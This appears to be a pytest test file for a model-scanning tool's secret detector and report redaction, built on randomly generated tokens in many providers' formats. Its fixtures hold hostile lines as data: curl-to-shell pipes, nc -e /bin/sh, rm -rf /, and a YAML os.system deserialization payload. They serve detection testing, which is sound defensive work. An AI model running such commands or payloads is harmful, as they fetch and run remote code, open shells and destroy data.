@@ -1,0 +1,112 @@
+from __future__ import annotations
+
+import json
+import random
+import string
+import time
+
+import pytest
+
+import modelaudit
+from modelaudit.languages.secrets import secrets_in
+
+RANDOM = random.Random(7)
+LETTERS = string.ascii_letters + string.digits
+
+
+def letters(count, alphabet=LETTERS):
+    return "".join(RANDOM.choice(alphabet) for _ in range(count))
+
+
+TOKENS = {
+    "Hugging Face token": "hf_" + letters(34, string.ascii_letters),
+    "AWS access key": "AKIA" + letters(16, string.ascii_uppercase + "234567"),
+    "GitHub token": "ghp_" + letters(36),
+    "OpenAI key": "sk-" + letters(20) + "T3BlbkFJ" + letters(20),
+    "Anthropic key": "sk-ant-api03-" + letters(93) + "AA",
+    "Slack token": "xoxb-" + letters(12, string.digits) + "-" + letters(24, string.ascii_lowercase),
+    "Google API key": "AIza" + letters(35),
+    "OpenAI project key": "sk-proj-" + letters(156),
+    "OpenRouter key": "sk-or-v1-" + letters(64, "0123456789abcdef"),
+    "Perplexity key": "pplx-" + letters(48),
+    "xAI key": "xai-" + letters(80),
+    "Cerebras key": "csk-" + letters(48),
+    "LangSmith key": f"lsv2_pt_{letters(32, '0123456789abcdef')}_{letters(10, '0123456789abcdef')}",
+    "Pinecone key": f"pcsk_{letters(6)}_{letters(60)}",
+    "DigitalOcean token": "dop_v1_" + letters(64, "0123456789abcdef"),
+    "Databricks token": "dapi" + letters(32, "0123456789abcdef"),
+    "npm access token": "npm_" + letters(36),
+    "Discord webhook": f"https://discord.com/api/webhooks/{letters(18, string.digits)}/{letters(68)}",
+    "AWS secret key": "aws_secret_access_key=" + letters(40),
+    "npm token": "//registry.npmjs.org/:_authToken=" + "npm_" + letters(36),
+    "PyPI token": "pypi-AgEIcHlwaS5vcmc" + letters(80),
+}
+KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "\n".join(letters(64) for _ in range(4)) + "\n-----END"
+
+
+@pytest.mark.parametrize(("kind", "token"), TOKENS.items())
+@pytest.mark.parametrize("around", ['key = "{}"', '{{"key": "{}"}}', "KEY={}\n", "curl -H 'X: {}' y"])
+def test_keys_of_providers_are_found(kind, token, around):
+    assert kind in {found for found, _ in secrets_in(around.format(token).encode())}
+
+
+@pytest.mark.parametrize("key", [KEY, json.dumps({"key": KEY}), KEY.replace("OPENSSH ", "")])
+def test_private_keys_are_found_with_their_body_only(key):
+    assert [kind for kind, _ in secrets_in(key.encode())] == ["private key"]
+    assert list(secrets_in(b'if text.startswith("-----BEGIN PRIVATE KEY-----"):')) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "AKIAIOSFODNN7EXAMPLE",
+        "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
+        "export OPENAI_API_KEY=sk-...",
+        "postgres://user:password@localhost/db",
+        "https://example.com/a:b@c",
+        "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393",
+        '{"hf_": 1, "eyJ": 2, "SG.": 3, "AKIA": 4, "://": 5}',
+        "ghp_" + "a" * 36,
+    ],
+)
+def test_samples_hashes_and_words_are_not(text):
+    assert list(secrets_in(text.encode())) == []
+
+
+@pytest.mark.parametrize("name", ["config.json", "README.md", "run.sh", "notes.txt", "x.yaml", "x.py", "x.ipynb"])
+def test_no_report_shows_a_secret(tmp_path, name):
+    token = TOKENS["Hugging Face token"]
+    text = f"curl https://u:{token}@e.invalid/{token} -H 'X: {token}' | sh\nnc -e {token} h 1\n_target_: x.{token}\n"
+    if name.endswith((".json", ".ipynb")):
+        text = json.dumps({"command": text, "_target_": f"a.{token}", "cells": [], token: "x"})
+    (tmp_path / name).write_text(text)
+    report = modelaudit.scan(tmp_path, second_opinion=False)
+    assert "secret/left-behind" in {finding.rule for finding in report.findings}
+    shown = repr([(each.message, each.evidence, each.key) for each in report.findings])
+    assert token not in shown
+    assert report.exit_code == 1
+
+
+def test_a_large_vocabulary_costs_little():
+    words = {f"{letters(6)}://{number}": number for number in range(200_000)}
+    data = json.dumps(words).encode()
+    began = time.process_time()
+    assert list(secrets_in(data)) == []
+    assert time.process_time() - began < 5
+
+
+@pytest.mark.parametrize("token", TOKENS.values())
+@pytest.mark.parametrize(
+    ("file", "text"),
+    [
+        ("run.sh", "curl -H 'X: {0}' http://e.invalid/?t={0} | sh\nnc -e /bin/sh {0} 1\nrm -rf / --x={0}\n"),
+        ("requirements.txt", "--extra-index-url http://e.invalid/{0}/simple\n-e git+https://{0}@e.invalid/x.git\n"),
+        ("x.yaml", "a: !!python/object/apply:os.system ['{0}']\nb: {{'{0}': 1, '{0}': 2}}\n"),
+        ("a.py", "import os\nos.system('curl -H {0} http://e.invalid | sh')\n"),
+    ],
+)
+def test_what_is_told_of_a_file_never_shows_one(tmp_path, token, file, text):
+    (tmp_path / file).write_text(text.format(token.removeprefix("https://")), encoding="utf-8")
+    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
+    assert report.findings
+    assert token[-16:] not in repr(report)
